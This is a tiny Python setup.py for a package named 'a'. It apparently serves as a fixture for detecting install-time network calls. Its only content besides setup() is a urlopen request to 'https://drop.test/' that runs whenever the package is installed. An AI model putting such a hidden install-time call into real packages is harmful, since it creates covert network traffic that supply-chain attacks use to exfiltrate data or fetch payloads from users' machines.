from urllib.request import urlopen

from setuptools import setup

urlopen("https://drop.test/")
setup(name="a")
